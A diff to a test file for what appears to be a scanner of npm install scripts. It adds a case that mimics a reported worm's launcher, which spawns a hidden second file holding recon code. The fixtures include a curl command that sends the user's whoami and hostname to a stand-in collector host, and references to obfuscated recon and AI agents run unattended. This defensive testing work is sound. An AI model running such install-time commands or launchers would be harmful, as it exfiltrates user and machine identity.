@@ -76,6 +76,8 @@ describe('the code an install script runs', () => {
     ['recon whose module and call names are hidden (pieces, base64, Reflect)', 'node install.js', [['install.js', HIDDEN_RECON]], ['exfiltration']],
     ["the developer's AI agents run unattended (the nx shape)", 'node telemetry.js', [['telemetry.js', AGENTS_UNATTENDED]], ['agent-unleashed']],
     ['the package.json command itself sends who the user is', 'curl -s "https://collector.example/?u=$(whoami)&h=$(hostname)"', [], ['exfiltration']],
+    // The November 2025 npm worm's launcher shape (written for this test from public reports): the command runs a plain launcher that spawns a second file named by a path from its own folder.
+    ['recon in a second file the launcher spawns by a folder path', 'node setup.js', [['setup.js', "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'lib', 'env.js')], { stdio: 'ignore' });"], ['lib/env.js', RECON]], ['beacon', 'exfiltration']],
     ['an honest install.js replaced by a later entry of the same path', 'node install.js', [['install.js', 'console.log("thanks")'], ['install.js', RECON]], ['beacon', 'exfiltration']],
   ] as const)('%s: 0, capped at 49.9, the gate fails', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, postinstall, files, findings], { task, expect }) => {
     noteCases(task);
